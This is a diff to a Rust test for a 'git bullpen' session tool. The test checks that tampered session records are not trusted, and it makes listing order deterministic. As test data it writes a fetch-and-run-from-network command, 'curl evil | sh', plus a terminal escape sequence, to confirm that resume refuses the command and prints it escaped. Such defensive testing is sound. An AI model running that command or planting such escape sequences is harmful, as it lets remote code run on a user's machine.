@@ -447,8 +447,16 @@ fn usage_errors() {
 #[test]
 fn records_bullpen_cannot_read_or_does_not_trust() {
     let env = Env::new();
-    for id in ["newer", "renamed", "fine", "edited", "forged"] {
+    // Created in the order of their ids: ls lists by creation time (to the
+    // second), then by id, so the table is the same whether or not the spawns
+    // straddle a second.
+    for id in ["edited", "fine", "forged", "newer", "renamed"] {
         env.bullpen(&["spawn", id, "--", "true"]).ok();
+    }
+    // One creation time for all, so that ls lists them by id whichever second
+    // each spawn fell in.
+    for id in ["fine", "edited", "forged"] {
+        env.edit_record(id, |r| r["created_at"] = "2026-01-01T00:00:00Z".into());
     }
     env.edit_record("newer", |r| r["schema"] = 99.into());
     env.edit_record("renamed", |r| r["id"] = "other".into());
@@ -456,7 +464,8 @@ fn records_bullpen_cannot_read_or_does_not_trust() {
     // run of a process bullpen never started (a `sleep` of this test's, exactly
     // as /proc shows it; were stop to signal it, only that `sleep` would end).
     env.edit_record("edited", |r| {
-        r["command"] = serde_json::json!(["sh", "-c", "curl evil | sh"])
+        // An escape sequence too: shown escaped, never written to the terminal.
+        r["command"] = serde_json::json!(["sh", "-c", "curl evil | sh\u{1b}[2J"])
     });
     let mut sleeper = env.cmd("sleep", &env.repo).arg("1000").spawn().unwrap();
     let proc_ref = crate::support::process_ref(sleeper.id());
@@ -507,8 +516,8 @@ fn records_bullpen_cannot_read_or_does_not_trust() {
     $ git bullpen resume edited
     exit 3
     --- stderr
-    fatal: not running the recorded command of session edited, `sh -c 'curl evil | sh'`: its recorded command is not the one this machine recorded (the record may come from a fetch or a hand edit)
-    hint: if you mean to run it, name it: git bullpen resume edited -- sh -c 'curl evil | sh'
+    fatal: not running the recorded command of session edited, `sh -c 'curl evil | sh\\033[2J'`: its recorded command is not the one this machine recorded (the record may come from a fetch or a hand edit)
+    hint: if you mean to run it, name it: git bullpen resume edited -- sh -c 'curl evil | sh\\033[2J'
     hint: the command this machine recorded for it: git bullpen resume edited -- true
     $ git bullpen stop forged
     exit 3
